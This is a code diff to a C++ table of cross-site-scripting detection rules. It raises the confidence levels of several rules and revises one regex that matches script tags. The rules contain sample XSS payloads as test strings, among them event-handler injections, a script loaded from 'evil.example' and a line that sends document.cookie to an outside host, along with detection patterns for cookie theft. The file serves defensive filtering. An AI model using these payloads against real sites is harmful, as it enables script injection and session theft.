@@ -28,7 +28,7 @@ constexpr Rule kRules[] = {
      {"<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\" onmouseover=alert(1) \""},
      {"<button onclick=\"save()\">", "The on switch = off"}},
     {"javascript in a link",
-     kStrong,
+     kCertain,
      "(?:href|src|action|formaction|data|xlink:href|background|dynsrc|lowsrc|code|classid|poster|url|content|from|to|"
      "values|folder|style|codebase|srcdoc|archive|profile|longdesc)\\s?(?:=|\\(|:)\\s?[^a-z<>]{0,8}(?:&[#a-z0-9]{1,8};|"
      "[\\x00-\\x20]){0,4}(?:javascript|vbscript|livescript|mocha|jav&[#a-z0-9]{1,8};?ascript|java[\\s/"
@@ -37,13 +37,13 @@ constexpr Rule kRules[] = {
      {"<a href=\"javascript:alert(1)\">", "src=data:text/html,<script>", "<iframe src=\"vbscript:x\""},
      {"href=\"/about\"", "src=\"data:image/png;base64,AAA\""}},
     {"javascript that probes",
-     kStrong,
+     kCertain,
      "\\b(?:javascript|vbscript)\\s?(?::|&colon;|&#58;|&#x3a;)\\s?[^\\n]{0,40}?(?:" PROBE
      "|msgbox|eval|document\\.|window\\.|location|string\\.fromcharcode|void|//|%)",
      {"javascript:alert(1)", "javascript:void(document.cookie)"},
      {"JavaScript: the good parts"}},
     {"out of an attribute",
-     kStrong,
+     kCertain,
      "[\"'`]\\s?/"
      "?>\\s?<\\s?(?:script|img|svg|iframe|body|video|audio|object|embed|meta|link|style|input|a\\s|x\\b|h1|marquee|"
      "details|form|base|b\\b|plaintext)|</"
@@ -54,15 +54,15 @@ constexpr Rule kRules[] = {
      {"\"><script src=//x></script>", "';alert(1);'", "</title><svg onload=x>"},
      {"<a href=x>y</a>", "say 'hi'"}},
     {"a script from elsewhere",
-     kStrong,
+     kCertain,
      "<\\s?script[^>]{0,80}(?:src|href|xlink:href)\\s?=\\s?[\"'`]?(?://|\\\\\\\\|data:|http://"
-     "[^\\s\"'>]{0,60}(?:xss|evil|attack|ckers)|https?://(?:[0-9]{1,3}\\.){3}|/\\\\)|<\\s?/?script[/"
-     "\\x09][^>]{0,20}(?:[a-z]|>)|<\\s?script\\s?<|<<\\s?script|<\\s?scr\\x00?<\\s?script|<scr<script|%3cscript|"
-     "\\\\x3cscript|\\\\u003cscript|\\+adw-script|&lt;?script&gt;?|\xc2\xbc\\s?script",
+     "[^\\s\"'>]{0,60}(?:xss|evil|attack|ckers)|https?://(?:[0-9]{1,3}\\.){3}|/\\\\)|<\\s?/?script/"
+     "|<\\s?script\\s?<|<<\\s?script|<\\s?scr\\x00?<\\s?script|<scr<script|%3cscript|\\\\x3cscript|\\\\u003cscript|\\+"
+     "adw-script|&lt;?script&gt;?|\xc2\xbc\\s?script",
      {"<script src=//evil.example/x.js>", "<<script>alert", "%3Cscript%3E"},
      {"<script src=\"https://cdn.example.com/react.js\"></script>", "<script src=\"/js/app.js\">"}},
     {"cookies sent away",
-     kStrong,
+     kCertain,
      "(?:document|this|self|top|window|frames)\\s?(?:\\.|\\[\\s?[\"'`])\\s?(?:cookie|domain|location)\\b.{0,60}(?:http|"
      "//"
      "|\\+|\\()|(?:location|\\.src|fetch|xmlhttprequest|sendbeacon|open).{0,60}document\\.cookie|\\balert\\s?\\(\\s?(?:"
@@ -71,7 +71,7 @@ constexpr Rule kRules[] = {
      {"new Image().src='//x/?c='+document.cookie", "alert(document.cookie)", "alert('XSS')"},
      {"document.getElementById('x')", "alert('Saved!')"}},
     {"odd tags",
-     kMedium,
+     kCertain,
      "<\\s?(?:svg|math|iframe|object|embed|isindex|frameset|bgsound|applet|base|xml|xss|layer|ilayer|keygen|marquee|"
      "plaintext|animate|set\\s|foreignobject|noembed)[\\s/"
      "][^>]{0,200}?(?:on[a-z]{3,20}\\s?=|javascript|(?:src|href|data|code|srcdoc|from|to|values|style)\\s?=\\s?[\"'`]?("
@@ -87,7 +87,7 @@ constexpr Rule kRules[] = {
       "style=\"width: expression(alert(1))\""},
      {"<style>body { color: red }</style>", "<svg viewBox=\"0 0 1 1\"></svg>"}},
     {"code from characters",
-     kMedium,
+     kCertain,
      "string\\s?\\.\\s?fromcharcode\\s?\\(\\s?[0-9,\\s]{8,}|\\beval\\s?[(`]\\s?(?:atob|unescape|string|name|location|"
      "this|\\\\|\\+|[\"'`]\\\\|function|decodeuri|[a-z]\\)|[\"'`](?:al|ale|a\\\\))|\\bfunction\\s?\\(\\s?[\"'`](?:al|"
      "\\\\)|\\(\\s?\\[\\]\\s?\\[|\\[\\s?\\+?!\\+?\\[\\]|\\$\\s?=\\s?~\\s?\\[\\]|\\b(?:window|self|top|parent|frames|"
@@ -98,7 +98,7 @@ constexpr Rule kRules[] = {
      {"eval(String.fromCharCode(97,108,101,114,116))", "eval(atob('YWxlcnQoMSk='))", "([][(![]+[])"},
      {"evaluate(x)", "const x = [];"}},
     {"a handler",
-     kWeak,
+     kStrong,
      "<[a-z][^>]{0,200}[\\s/"
      "\"']on(?:error|load|mouse[a-z]+|focus[a-z]*|blur|click|toggle|start|begin|end|finish|bounce|scroll|drag[a-z]*|"
      "pointer[a-z]+|animation[a-z]+|transition[a-z]+|wheel|key[a-z]+|cut|copy|paste|beforescript[a-z]*|"
